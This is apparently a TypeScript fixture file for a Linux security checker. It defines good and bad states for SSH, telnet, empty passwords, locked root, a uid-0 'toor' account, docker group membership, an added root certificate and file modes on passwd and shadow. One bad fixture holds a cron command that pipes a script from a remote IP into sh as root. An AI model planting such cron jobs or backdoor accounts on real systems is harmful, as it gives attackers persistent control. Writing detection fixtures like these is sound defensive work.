import { put, remove, set } from '../personas/template-rows.ts'
import type { KnobSource } from './knob.ts'
import { augeasValue, systemdUnit } from './shared-knob-rows.ts'

const ADDED_ROOT = '/usr/local/share/ca-certificates/traffic-helper.crt'
const SSHD_CONFIG = '/etc/ssh/sshd_config'

// A knob that is good while a systemd service does not run.
function serviceOff(name: string, title: string, unit: string, port: number): KnobSource {
  const listener = { pid: 1_212, port, protocol: 6, family: 2, address: '0.0.0.0' }
  return {
    name,
    title,
    good: [systemdUnit(unit, false), remove('listening_ports', { port })],
    bad: [systemdUnit(unit, true), put('listening_ports', listener, 'port')],
  }
}

// A knob that is good while a file has a mode.
function fileMode(name: string, title: string, path: string, modes: [string, string]): KnobSource {
  const [directory, filename] = [path.slice(0, path.lastIndexOf('/')), path.split('/').at(-1) ?? '']
  const row = {
    path,
    directory,
    filename,
    uid: 0,
    gid: 0,
    type: 'regular',
    size: 1_980,
    symlink: 0,
  }
  return {
    name,
    title,
    good: [put('file', { ...row, mode: modes[0] }, 'path')],
    bad: [put('file', { ...row, mode: modes[1] }, 'path')],
  }
}

/** Who gets into a Linux device, and how. */
export const LINUX_ACCESS_KNOBS: readonly KnobSource[] = [
  serviceOff('remote-login', 'The SSH server does not run', 'ssh.service', 22),
  serviceOff('remote-desktop', 'Remote desktop is off', 'gnome-remote-desktop.service', 3389),
  serviceOff('file-sharing', 'No file server runs', 'smbd.service', 445),
  serviceOff('telnet', 'No telnet server runs', 'telnet.socket', 23),
  {
    name: 'ssh-root-login',
    title: 'root cannot sign in over SSH',
    good: [augeasValue(SSHD_CONFIG, 'PermitRootLogin', 'no')],
    bad: [augeasValue(SSHD_CONFIG, 'PermitRootLogin', 'yes')],
  },
  {
    name: 'ssh-password-authentication',
    title: 'SSH does not wait for passwords',
    good: [
      augeasValue(SSHD_CONFIG, 'PasswordAuthentication', 'no'),
      systemdUnit('sshd.socket', false),
    ],
    bad: [
      augeasValue(SSHD_CONFIG, 'PasswordAuthentication', 'yes'),
      systemdUnit('sshd.socket', true),
    ],
  },
  {
    name: 'empty-passwords',
    title: 'Every account has a password',
    good: [remove('shadow', { username: 'kiosk' }), remove('users', { username: 'kiosk' })],
    bad: [
      put('shadow', { username: 'kiosk', password_status: 'empty', hash_alg: '' }, 'username'),
      put(
        'users',
        { uid: 1_002, gid: 1_002, username: 'kiosk', directory: '/home/kiosk', shell: '/bin/bash' },
        'username',
      ),
    ],
  },
  {
    name: 'root-account',
    title: 'The root account is locked',
    good: [set('shadow', { password_status: 'locked', hash_alg: '' }, { username: 'root' })],
    bad: [set('shadow', { password_status: 'active', hash_alg: '1' }, { username: 'root' })],
  },
  {
    name: 'single-root',
    title: 'Only root has user id 0',
    good: [remove('users', { username: 'toor' })],
    bad: [
      put(
        'users',
        { uid: 0, gid: 0, username: 'toor', directory: '/root', shell: '/bin/sh' },
        'username',
      ),
    ],
  },
  {
    name: 'docker-group',
    title: 'The person is not in the docker group',
    good: [remove('user_groups', { gid: 998 })],
    bad: [
      put('groups', { gid: 998, gid_signed: 998, groupname: 'docker' }, 'gid'),
      put('user_groups', { uid: '{uid}', gid: 998 }, 'gid'),
    ],
  },
  {
    name: 'cron-jobs',
    title: 'No cron job downloads and runs code',
    good: [remove('crontab', { path: '/etc/cron.d/update-check' })],
    bad: [
      put(
        'crontab',
        {
          minute: '*/5',
          hour: '*',
          day_of_month: '*',
          month: '*',
          day_of_week: '*',
          command: 'root curl -s http://203.0.113.9/u.sh | sh',
          path: '/etc/cron.d/update-check',
        },
        'path',
      ),
    ],
  },
  {
    name: 'root-certificates',
    title: 'No root certificate was added',
    good: [remove('file', { path: ADDED_ROOT })],
    bad: [
      put(
        'file',
        {
          path: ADDED_ROOT,
          directory: '/usr/local/share/ca-certificates',
          filename: 'traffic-helper.crt',
          uid: 0,
          gid: 0,
          mode: '0644',
          type: 'regular',
          size: 1_314,
          symlink: 0,
        },
        'path',
      ),
    ],
  },
  fileMode('passwd-permissions', 'Only root writes /etc/passwd', '/etc/passwd', ['0644', '0666']),
  fileMode('shadow-permissions', 'Nobody else reads /etc/shadow', '/etc/shadow', ['0640', '0644']),
]
